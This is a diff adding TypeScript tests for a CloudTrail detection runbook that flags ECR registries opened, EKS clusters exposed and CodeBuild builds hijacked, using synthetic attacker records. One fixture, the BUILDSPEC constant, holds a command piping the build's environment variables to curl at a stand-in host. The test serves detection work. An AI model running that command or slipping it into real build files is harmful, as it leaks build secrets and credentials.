@@ -311,6 +311,7 @@ describe.skipIf(!HAS_SHARED)("the bundled runbooks on Panther's CloudTrail test 
       expect(regions, absent).not.toContain(absent);
     expectNetworkCases(reports);
     expectSignInCases(reports);
+    expectBuildCases(reports);
     // The run's window: records without a time are in no window.
     const events = inWindow(readJsonl(PANTHER), new Date("2000-01-01"), new Date());
     expectTruth(reports, events, PANTHER_STEPS);
@@ -3678,6 +3679,357 @@ describe("sign-in-persistence on the identity shapes the data sets lack", () => 
   });
 });
 
+describe("build-and-registry on the registry, cluster and build shapes the data sets lack", () => {
+  /*
+   * The shapes: requests as CloudTrail records AWS API requests, the API's member names in lower
+   * camel case. Amazon ECR API Reference: SetRepositoryPolicy and PutRegistryPolicy
+   * (repositoryName, policyText: the policy as JSON text, as Panther's
+   * AWS.CloudTrail.ResourceMadePublic "ECR Made Public" record has it),
+   * PutReplicationConfiguration (replicationConfiguration.rules[].destinations[].region,
+   * registryId), PutImageTagMutability (imageTagMutability MUTABLE | IMMUTABLE),
+   * PutImageScanningConfiguration (imageScanningConfiguration.scanOnPush),
+   * PutRegistryScanningConfiguration (scanType BASIC | ENHANCED, rules[].scanFrequency
+   * SCAN_ON_PUSH | CONTINUOUS_SCAN | MANUAL, repositoryFilters), BatchDeleteImage (imageIds[]
+   * .imageTag, imageDigest), DeleteRepository (force), CompleteLayerUpload (uploadId,
+   * layerDigests); PutImage as Panther's AWS.ECR.CRUD records; Amazon ECR Public API Reference:
+   * CreateRepository (ecr-public.amazonaws.com). Amazon EKS API Reference: CreateCluster and
+   * UpdateClusterConfig (name, resourcesVpcConfig.endpointPublicAccess, endpointPrivateAccess,
+   * publicAccessCidrs; logging.clusterLogging[].types, enabled; accessConfig.authenticationMode
+   * API | API_AND_CONFIG_MAP | CONFIG_MAP), CreateAccessEntry (clusterName, principalArn),
+   * AssociateAccessPolicy (clusterName, principalArn, policyArn
+   * arn:aws:eks::aws:cluster-access-policy/..., accessScope.type),
+   * AssociateIdentityProviderConfig (clusterName, oidc.identityProviderConfigName, issuerUrl,
+   * clientId). AWS CodeBuild API Reference: UpdateProjectVisibility (projectArn,
+   * projectVisibility PUBLIC_READ | PRIVATE, as Panther's
+   * AWS.CloudTrail.CodebuildProjectMadePublic records), ImportSourceCredentials (serverType,
+   * authType; the token as CloudTrail hides it), StartBuild and StartBuildBatch (projectName,
+   * buildspecOverride, privilegedModeOverride, serviceRoleOverride), CreateWebhook
+   * (projectName, filterGroups), UpdateProject (name, serviceRole).
+   */
+  const MAL = MALLORY.arn;
+  const CI = {
+    type: "AssumedRole",
+    principalId: "AROAEXAMPLE:build-42",
+    arn: "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42",
+    accountId: "123456789012",
+    accessKeyId: "ASIAEXAMPLESESSION01",
+  };
+  const ecr = "ecr.amazonaws.com";
+  const eks = "eks.amazonaws.com";
+  const cb = "codebuild.amazonaws.com";
+  const call = (
+    who: Record<string, unknown>,
+    i: number,
+    source: string,
+    name: string,
+    request: Record<string, unknown> | null,
+    extra: Record<string, unknown> = {},
+  ) => crafted(i, who, source, name, request, { readOnly: false, ...extra });
+  const policy = (statement: Record<string, unknown>) =>
+    JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", ...statement }] });
+  const pull = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"];
+  const repo = "payments-api";
+  const vpc = (config: Record<string, unknown>) => ({ name: "prod", resourcesVpcConfig: config });
+  const logging = (enabled: boolean) => ({
+    name: "prod",
+    logging: { clusterLogging: [{ types: ["api", "audit", "authenticator"], enabled }] },
+  });
+  const access = (policyArn: string) => ({
+    clusterName: "prod",
+    principalArn: "arn:aws:iam::999988887777:role/k8s",
+    policyArn: `arn:aws:eks::aws:cluster-access-policy/${policyArn}`,
+    accessScope: { type: "cluster" },
+  });
+  const BUILDSPEC =
+    "version: 0.2\nphases:\n  build:\n    commands:\n      - env | curl -d @- x.example";
+  const ADMIN_ROLE = "arn:aws:iam::123456789012:role/admin";
+  const events = [
+    // 0: the pipeline's push (not listed); 1: a policy letting {"AWS": "*"} pull; 2: "*" fenced
+    // on the organization (not listed); 3: the registry's policy for another account beside
+    // this one; 4: a partner's account (listed unless partner_accounts names it); 5: replication
+    // to this account's other region (not listed); 6: to another account in a second
+    // destination (the Logs Insights twin compares the first only); 7: tags made mutable, 8:
+    // immutable (not listed); 9: scan on push off; 10: registry scanning left manual, 11:
+    // continuous (not listed); 12: an image deleted, 13: the repository; 14: an ECR Public
+    // repository; 15: a refused push, 16: a layer upload (neither listed)
+    call(CI, 0, ecr, "PutImage", { repositoryName: repo, imageTag: "v1.4.2" }),
+    call(MALLORY, 1, ecr, "SetRepositoryPolicy", {
+      repositoryName: repo,
+      policyText: policy({ Principal: { AWS: "*" }, Action: pull }),
+    }),
+    call(MALLORY, 2, ecr, "SetRepositoryPolicy", {
+      repositoryName: repo,
+      policyText: policy({
+        Principal: "*",
+        Action: pull,
+        Condition: { StringEquals: { "aws:PrincipalOrgID": "o-exampleorgid" } },
+      }),
+    }),
+    call(MALLORY, 3, ecr, "PutRegistryPolicy", {
+      policyText: policy({
+        Principal: {
+          AWS: ["arn:aws:iam::123456789012:root", "arn:aws:iam::999988887777:root"],
+        },
+        Action: ["ecr:ReplicateImage"],
+        Resource: "arn:aws:ecr:us-east-1:123456789012:repository/*",
+      }),
+    }),
+    call(MALLORY, 4, ecr, "SetRepositoryPolicy", {
+      repositoryName: repo,
+      policyText: policy({ Principal: { AWS: "arn:aws:iam::222233334444:root" }, Action: pull }),
+    }),
+    call(MALLORY, 5, ecr, "PutReplicationConfiguration", {
+      replicationConfiguration: {
+        rules: [{ destinations: [{ region: "us-west-2", registryId: "123456789012" }] }],
+      },
+    }),
+    call(MALLORY, 6, ecr, "PutReplicationConfiguration", {
+      replicationConfiguration: {
+        rules: [
+          {
+            destinations: [
+              { region: "us-west-2", registryId: "123456789012" },
+              { region: "eu-west-1", registryId: "999988887777" },
+            ],
+          },
+        ],
+      },
+    }),
+    call(MALLORY, 7, ecr, "PutImageTagMutability", {
+      repositoryName: repo,
+      imageTagMutability: "MUTABLE",
+    }),
+    call(MALLORY, 8, ecr, "PutImageTagMutability", {
+      repositoryName: repo,
+      imageTagMutability: "IMMUTABLE",
+    }),
+    call(MALLORY, 9, ecr, "PutImageScanningConfiguration", {
+      repositoryName: repo,
+      imageScanningConfiguration: { scanOnPush: false },
+    }),
+    call(MALLORY, 10, ecr, "PutRegistryScanningConfiguration", { scanType: "BASIC", rules: [] }),
+    call(MALLORY, 11, ecr, "PutRegistryScanningConfiguration", {
+      scanType: "ENHANCED",
+      rules: [
+        {
+          scanFrequency: "CONTINUOUS_SCAN",
+          repositoryFilters: [{ filter: "*", filterType: "WILDCARD" }],
+        },
+      ],
+    }),
+    call(MALLORY, 12, ecr, "BatchDeleteImage", {
+      repositoryName: repo,
+      imageIds: [{ imageTag: "v1.4.1" }],
+    }),
+    call(MALLORY, 13, ecr, "DeleteRepository", { repositoryName: repo, force: true }),
+    call(MALLORY, 14, "ecr-public.amazonaws.com", "CreateRepository", { repositoryName: "tools" }),
+    call(
+      MALLORY,
+      15,
+      ecr,
+      "PutImage",
+      { repositoryName: repo, imageTag: "latest" },
+      { errorCode: "AccessDeniedException", errorMessage: "denied" },
+    ),
+    call(MALLORY, 16, ecr, "CompleteLayerUpload", {
+      repositoryName: repo,
+      uploadId: "u-1",
+      layerDigests: ["sha256:00"],
+    }),
+    // 17: the endpoint opened to 0.0.0.0/0; 18: a cluster created with EKS's public default;
+    // 19: opened to a company range (not listed); 20: 0.0.0.0/0 second in the list (the twin
+    // compares the first only); 21: logs off, 22: on (not listed); 23: the authentication
+    // mode; 24: an access entry for another account's role, 25: made cluster admin, 26: given
+    // view only (not listed); 27: an outside OIDC provider; 28: the pipeline's access entry
+    // (not listed); 29: the endpoint made private (not listed)
+    call(MALLORY, 17, eks, "UpdateClusterConfig", {
+      ...vpc({ endpointPublicAccess: true, publicAccessCidrs: ["0.0.0.0/0"] }),
+    }),
+    call(MALLORY, 18, eks, "CreateCluster", {
+      name: "lab",
+      roleArn: "arn:aws:iam::123456789012:role/eks",
+      resourcesVpcConfig: { subnetIds: ["subnet-1", "subnet-2"] },
+    }),
+    call(MALLORY, 19, eks, "UpdateClusterConfig", {
+      ...vpc({ endpointPublicAccess: true, publicAccessCidrs: ["203.0.113.0/24"] }),
+    }),
+    call(MALLORY, 20, eks, "UpdateClusterConfig", {
+      ...vpc({ publicAccessCidrs: ["10.0.0.0/8", "0.0.0.0/0"] }),
+    }),
+    call(MALLORY, 21, eks, "UpdateClusterConfig", logging(false)),
+    call(MALLORY, 22, eks, "UpdateClusterConfig", logging(true)),
+    call(MALLORY, 23, eks, "UpdateClusterConfig", {
+      name: "prod",
+      accessConfig: { authenticationMode: "API_AND_CONFIG_MAP" },
+    }),
+    call(MALLORY, 24, eks, "CreateAccessEntry", {
+      clusterName: "prod",
+      principalArn: "arn:aws:iam::999988887777:role/k8s",
+    }),
+    call(MALLORY, 25, eks, "AssociateAccessPolicy", access("AmazonEKSClusterAdminPolicy")),
+    call(MALLORY, 26, eks, "AssociateAccessPolicy", access("AmazonEKSViewPolicy")),
+    call(MALLORY, 27, eks, "AssociateIdentityProviderConfig", {
+      clusterName: "prod",
+      oidc: {
+        identityProviderConfigName: "corp",
+        issuerUrl: "https://oidc.example.net",
+        clientId: "kubernetes",
+      },
+    }),
+    call(CI, 28, eks, "CreateAccessEntry", {
+      clusterName: "prod",
+      principalArn: "arn:aws:iam::123456789012:role/deployer",
+    }),
+    call(MALLORY, 29, eks, "UpdateClusterConfig", {
+      ...vpc({ endpointPublicAccess: false, endpointPrivateAccess: true }),
+    }),
+    // 30: a project made public, 31: private (not listed); 32: a GitHub token imported; 33: a
+    // build with its own buildspec, 34: privileged, 35: a batch under another role; 36: a plain
+    // re-run (not listed); 37: a webhook; 38: the project's role set, 39: its description (not
+    // listed); 40: the pipeline's build with a buildspec (not listed); 41: privileged mode
+    // false (not listed)
+    call(MALLORY, 30, cb, "UpdateProjectVisibility", {
+      projectArn: "arn:aws:codebuild:us-east-1:123456789012:project/app",
+      projectVisibility: "PUBLIC_READ",
+    }),
+    call(MALLORY, 31, cb, "UpdateProjectVisibility", {
+      projectArn: "arn:aws:codebuild:us-east-1:123456789012:project/app",
+      projectVisibility: "PRIVATE",
+    }),
+    call(MALLORY, 32, cb, "ImportSourceCredentials", {
+      serverType: "GITHUB",
+      authType: "PERSONAL_ACCESS_TOKEN",
+      token: "HIDDEN_DUE_TO_SECURITY_REASONS",
+    }),
+    call(MALLORY, 33, cb, "StartBuild", { projectName: "app", buildspecOverride: BUILDSPEC }),
+    call(MALLORY, 34, cb, "StartBuild", { projectName: "app", privilegedModeOverride: true }),
+    call(MALLORY, 35, cb, "StartBuildBatch", {
+      projectName: "app",
+      serviceRoleOverride: ADMIN_ROLE,
+    }),
+    call(MALLORY, 36, cb, "StartBuild", { projectName: "app" }),
+    call(MALLORY, 37, cb, "CreateWebhook", {
+      projectName: "app",
+      filterGroups: [[{ type: "EVENT", pattern: "PUSH" }]],
+    }),
+    call(MALLORY, 38, cb, "UpdateProject", { name: "app", serviceRole: ADMIN_ROLE }),
+    call(MALLORY, 39, cb, "UpdateProject", { name: "app", description: "x" }),
+    call(CI, 40, cb, "StartBuild", { projectName: "app", buildspecOverride: BUILDSPEC }),
+    call(MALLORY, 41, cb, "StartBuild", { projectName: "app", privilegedModeOverride: false }),
+  ];
+  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
+  const runbook = "runbooks/build-and-registry.md";
+  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
+  /** A step's rows without the actor and the address. */
+  const rows = (reports: RunReport[], id: string) =>
+    step(reports, id).rows.map((r) => [r[0], ...r.slice(2, 6)]);
+
+  it("lists the registries, clusters and builds opened or hijacked, none of the ordinary", async () => {
+    const reports = await onJune1(runbook, events);
+    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
+    expect(step(reports, "registries_opened").rows.every((r) => r[1] === MAL)).toBe(true);
+    expect(rows(reports, "registries_opened")).toEqual([
+      [at(1), "SetRepositoryPolicy", repo, "opened to anyone", "*"],
+      [at(3), "PutRegistryPolicy", null, "opened to another account", "999988887777"],
+      [at(4), "SetRepositoryPolicy", repo, "opened to another account", "222233334444"],
+      [at(6), "PutReplicationConfiguration", null, "replicated to another account", "999988887777"],
+      [at(7), "PutImageTagMutability", repo, "tags made mutable", "MUTABLE"],
+      [at(9), "PutImageScanningConfiguration", repo, "scan on push off", null],
+      [at(10), "PutRegistryScanningConfiguration", null, "registry scanning off", "BASIC"],
+      [at(12), "BatchDeleteImage", repo, "images deleted", "v1.4.1"],
+      [at(13), "DeleteRepository", repo, "repository deleted", null],
+      [at(14), "CreateRepository", "tools", "public repository created", null],
+    ]);
+    // the twin: not the policies naming accounts, nor replication past the first destination
+    expect(step(reports, "registries_opened_insights").rowCount).toBe(7);
+    expect(rows(reports, "clusters_opened")).toEqual([
+      [at(17), "UpdateClusterConfig", "prod", "endpoint open to the internet", "0.0.0.0/0"],
+      [at(18), "CreateCluster", "lab", "endpoint open to the internet", "0.0.0.0/0"],
+      [
+        at(20),
+        "UpdateClusterConfig",
+        "prod",
+        "endpoint open to the internet",
+        "10.0.0.0/8 0.0.0.0/0",
+      ],
+      [at(21), "UpdateClusterConfig", "prod", "control-plane logging off", "api"],
+      [at(23), "UpdateClusterConfig", "prod", "authentication mode changed", "API_AND_CONFIG_MAP"],
+      [
+        at(24),
+        "CreateAccessEntry",
+        "prod",
+        "access entry created",
+        "arn:aws:iam::999988887777:role/k8s",
+      ],
+      [
+        at(25),
+        "AssociateAccessPolicy",
+        "prod",
+        "cluster admin granted",
+        "arn:aws:iam::999988887777:role/k8s",
+      ],
+      [
+        at(27),
+        "AssociateIdentityProviderConfig",
+        "prod",
+        "identity provider associated",
+        "https://oidc.example.net",
+      ],
+    ]);
+    // the twin: not 0.0.0.0/0 second in the list
+    expect(step(reports, "clusters_opened_insights").rowCount).toBe(7);
+    expect(rows(reports, "builds_hijacked")).toEqual([
+      [
+        at(30),
+        "UpdateProjectVisibility",
+        "arn:aws:codebuild:us-east-1:123456789012:project/app",
+        "project made public",
+        "PUBLIC_READ",
+      ],
+      [at(32), "ImportSourceCredentials", null, "source credentials imported", "GITHUB"],
+      [at(33), "StartBuild", "app", "build with its own buildspec", BUILDSPEC],
+      [at(34), "StartBuild", "app", "privileged build", null],
+      [at(35), "StartBuildBatch", "app", "build under another role", ADMIN_ROLE],
+      [at(37), "CreateWebhook", "app", "webhook changed", null],
+      [at(38), "UpdateProject", "app", "project role set", ADMIN_ROLE],
+    ]);
+    expect(step(reports, "builds_hijacked_insights").rowCount).toBe(7);
+    expectTruth(reports, events, BUILD_STEPS);
+  });
+
+  it("moves its verdicts with the automation pattern and the partner accounts", async () => {
+    // the partner named: its repository policy goes, the other account's stays
+    const partner = await onJune1(runbook, events, ["--param", "partner_accounts=^222233334444$"]);
+    expect(step(partner, "registries_opened").rows.map((r) => r[0])).not.toContain(at(4));
+    expect(step(partner, "registries_opened").rowCount).toBe(9);
+    expectTruth(partner, events, BUILD_STEPS);
+    // mallory made the automation: only the pipeline's own calls are left
+    const tuned = await onJune1(runbook, events, ["--param", "automation_pattern=:user/mallory$"]);
+    expect(rows(tuned, "registries_opened")).toEqual([
+      [at(0), "PutImage", repo, "image pushed", "v1.4.2"],
+    ]);
+    expect(rows(tuned, "clusters_opened")).toEqual([
+      [
+        at(28),
+        "CreateAccessEntry",
+        "prod",
+        "access entry created",
+        "arn:aws:iam::123456789012:role/deployer",
+      ],
+    ]);
+    expect(rows(tuned, "builds_hijacked")).toEqual([
+      [at(40), "StartBuild", "app", "build with its own buildspec", BUILDSPEC],
+    ]);
+    for (const id of [
+      "registries_opened_insights",
+      "clusters_opened_insights",
+      "builds_hijacked_insights",
+    ])
+      expect(step(tuned, id).rowCount, id).toBe(1);
+    expectTruth(tuned, events, BUILD_STEPS);
+  });
+});
+
 describe("a value no Logs Insights regular expression literal can hold", () => {
   it.each([
     ["x\\", "ends with a lone backslash"],
@@ -3941,6 +4293,60 @@ function expectSignInCases(reports: RunReport[]) {
   expect(step("console_from_keys_insights").rowCount).toBe(1);
 }
 
+/**
+ * build-and-registry on Panther's AWS.ECR.CRUD, AWS.ECR.EVENTS,
+ * AWS.CloudTrail.CodebuildProjectMadePublic and AWS.CloudTrail.ResourceMadePublic (ECR) cases,
+ * rows counted by hand from the records: step 1 lists the template's repository policy letting
+ * "*" pull (True) and the six PutImage records, the rules' True cases (an account or region
+ * outside their allow-lists) and, deliberately, their two "Authorized account" False cases too:
+ * each is an image pushed with an IAM user's key (user/DeployRole, user/Mary_Major), not by the
+ * pipeline's roles, and whose account or region it is does not make a push by hand the
+ * pipeline's. Step 3 lists the project made public (True; the same record again as
+ * AWS.EC2.Traffic.Mirroring's unrelated event, line 141, deliberately: it is the same call),
+ * never the project made private nor the CreateProject without a role (False). No record is
+ * an EKS call: step 2 passes.
+ */
+function expectBuildCases(reports: RunReport[]) {
+  const report = reports.find((r) => r.runbook.id === "build-and-registry")!;
+  const step = (id: string) => report.steps.find((s) => s.id === id)!;
+  const mary = (account: string) => `arn:aws:sts::${account}:user/Mary_Major`;
+  const push = (actor: string) => [actor, "PutImage", "testrepo", "image pushed", "latest"];
+  expect(
+    step("registries_opened")
+      .rows.map((r) => r.slice(1, 6))
+      .sort(),
+  ).toEqual(
+    [
+      push(mary("123456789012")),
+      push(mary("123456789012")),
+      push(mary("123456789012")),
+      push(mary("123456789012")),
+      push(mary("123456789000")),
+      push("arn:aws:sts::123456789000:user/DeployRole"),
+      [
+        "arn:aws:sts::112233445566:assumed-role/ServiceRole/AWSCloudFormation",
+        "SetRepositoryPolicy",
+        "community",
+        "opened to anyone",
+        "*",
+      ],
+    ].sort(),
+  );
+  expect(step("registries_opened_insights").rowCount).toBe(7);
+  expect(step("clusters_opened").status).toBe("passed");
+  expect(step("clusters_opened_insights").rowCount).toBe(0);
+  const project = "arn:aws:codebuild:us-east-1:111122223333:project/testproject1234";
+  const made = [
+    "arn:aws:sts::111122223333:assumed-role/MakeStuffPublic",
+    "UpdateProjectVisibility",
+    project,
+    "project made public",
+    "PUBLIC_READ",
+  ];
+  expect(step("builds_hijacked").rows.map((r) => r.slice(1, 6))).toEqual([made, made]);
+  expect(step("builds_hijacked_insights").rowCount).toBe(2);
+}
+
 /** A record's event source and name are these. */
 function is(e: Event, source: string, name: string): boolean {
   return field(e, "eventSource") === source && field(e, "eventName") === name;
@@ -4013,6 +4419,16 @@ const NETWORK_STEPS = [
   "network-paths/nacl_open_to_world_insights",
 ];
 
+/** build-and-registry's steps. */
+const BUILD_STEPS = [
+  "build-and-registry/registries_opened",
+  "build-and-registry/registries_opened_insights",
+  "build-and-registry/clusters_opened",
+  "build-and-registry/clusters_opened_insights",
+  "build-and-registry/builds_hijacked",
+  "build-and-registry/builds_hijacked_insights",
+];
+
 /** sign-in-persistence's steps. */
 const SIGN_IN_STEPS = [
   "sign-in-persistence/identity_providers_changed",
@@ -4043,6 +4459,7 @@ const PANTHER_STEPS = [
   ...RECONNAISSANCE_STEPS,
   ...NETWORK_STEPS,
   ...SIGN_IN_STEPS,
+  ...BUILD_STEPS,
 ];
 
 /** The data-exposure runbook's steps, all checked against test/truth/runbook-answers.ts. */
@@ -4070,6 +4487,7 @@ const STRATUS_STEPS = [
   ...RECONNAISSANCE_STEPS,
   ...NETWORK_STEPS,
   ...SIGN_IN_STEPS,
+  ...BUILD_STEPS,
 ];
 
 /** A step's rows and its failed checks' offending rows as JSON text; the step must fail. */
